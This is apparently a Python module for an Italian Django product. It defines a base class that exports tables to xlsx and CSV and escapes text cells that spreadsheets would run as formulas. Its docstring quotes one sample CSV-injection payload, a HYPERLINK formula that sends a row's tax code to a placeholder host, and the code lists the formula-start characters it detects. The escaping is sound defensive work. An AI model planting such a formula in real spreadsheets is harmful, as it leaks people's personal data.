"""Exports are small classes: an exporter names its columns and yields rows; the base
writes them as xlsx (openpyxl, write-only, so large tables stream) or as CSV with ``;``
(what Italian Excel opens without asking, with the BOM it needs to read UTF-8).

Every xlsx and CSV file the product writes goes through this base, because this is where
text that a spreadsheet would run as a formula is neutralised (``neutralizza``): a
surname ``=HYPERLINK("https://x/?"&C2;"Rossi")`` must come back as text, not as a link
that sends the row's codice fiscale away. Numbers and dates are written as numbers and
dates and never touched.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date
from decimal import Decimal
from typing import Any

from django.http import HttpResponse

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"
Cell = str | int | Decimal | date | None
Table = tuple[str, Sequence[str], Iterable[Sequence[Any]]]

# What makes Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP "CSV
# injection"): = + - @, and tab / carriage return, which some of them skip first.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralizza(testo: str) -> str:
    """Text as text: a leading apostrophe (the spreadsheets' own "this is text" mark) when
    it could start a formula. The one place this is decided, for xlsx and CSV alike."""
    return "'" + testo if testo.startswith(FORMULA_START) else testo


class Exporter:
    """Subclass: set ``filename`` (without extension; a property when it depends on the
    data) and implement ``tables``. ``csv_titles``: whether the CSV starts each table with
    its title row (a single-table file a program reads back goes without)."""

    filename: str = "export"
    csv_titles: bool = True
    # Data rows written by the last to_xlsx / to_csv (headers not counted), for the audit.
    rows_written: int = 0

    def tables(self) -> Iterable[Table]:
        """(sheet title, header, rows) for each sheet."""
        raise NotImplementedError

    def to_xlsx(self) -> bytes:
        from openpyxl import Workbook
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.styles import Font

        wb = Workbook(write_only=True)
        bold = Font(bold=True)
        self.rows_written = 0
        for title, header, rows in self.tables():
            ws = wb.create_sheet(title=str(title)[:31])
            cells = []
            for h in header:
                cell = WriteOnlyCell(ws, value=neutralizza(str(h)))
                cell.font = bold
                cells.append(cell)
            ws.append(cells)
            for row in rows:
                ws.append([_xlsx_cell(ws, v) for v in row])
                self.rows_written += 1
        out = io.BytesIO()
        wb.save(out)
        return out.getvalue()

    def to_csv(self) -> str:
        out = io.StringIO()
        writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
        self.rows_written = 0
        tables = list(self.tables())
        for title, header, rows in tables:
            if self.csv_titles:
                writer.writerow([neutralizza(str(title))])
            writer.writerow([neutralizza(str(h)) for h in header])
            for row in rows:
                writer.writerow([_csv_cell(v) for v in row])
                self.rows_written += 1
            if self.csv_titles or len(tables) > 1:
                writer.writerow([])
        return "\ufeff" + out.getvalue()

    def response(self, fmt: str = "xlsx", *, actor: Any = None,
                 filtro: dict | None = None) -> HttpResponse:
        """The file as a download; with ``actor`` (an ``Actor``) one audit entry says who
        downloaded what, with which filter and how many rows."""
        if fmt == "csv":
            resp = HttpResponse(self.to_csv(), content_type=CSV)
        else:
            fmt = "xlsx"
            resp = HttpResponse(self.to_xlsx(), content_type=XLSX)
        resp["Content-Disposition"] = f'attachment; filename="{self.filename}.{fmt}"'
        if actor is not None:
            from .letture import audit_export

            audit_export(user=actor.user, ip_address=actor.ip_address, export=self.filename,
                         formato=fmt, filtro=filtro or {}, righe=self.rows_written)
        return resp


def _xlsx_cell(ws: Any, value: Any) -> Any:
    from openpyxl.cell import WriteOnlyCell

    if value is None or isinstance(value, bool):
        return value
    if isinstance(value, Decimal):
        cell = WriteOnlyCell(ws, value=value)
        cell.number_format = "#,##0.00"
        return cell
    if isinstance(value, date):
        cell = WriteOnlyCell(ws, value=value)
        cell.number_format = "DD/MM/YYYY"
        return cell
    if isinstance(value, int | float):
        return value
    return neutralizza(str(value))


def _csv_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return f"{value:.2f}".replace(".", ",")
    if isinstance(value, date):
        return value.strftime("%d/%m/%Y")
    if isinstance(value, int | float) and not isinstance(value, bool):
        return str(value)
    return neutralizza(str(value))
